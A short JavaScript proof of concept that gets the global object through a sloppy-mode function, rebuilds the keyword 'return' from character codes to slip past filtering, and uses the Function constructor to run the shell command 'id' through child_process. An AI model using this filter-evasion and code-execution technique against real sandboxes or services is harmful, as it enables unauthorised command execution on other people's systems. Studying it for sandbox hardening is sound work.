// A sloppy function invoked with .call(null): `this` becomes the global object.
function self() { return this; }
const g = self.call(null);
const codes = [114, 101, 116, 117, 114, 110];   // 'return'
const body = String.fromCharCode(...codes) + ' process.getBuiltinModule("child_process").execSync("id").toString()';
console.log(g.Function(body)());
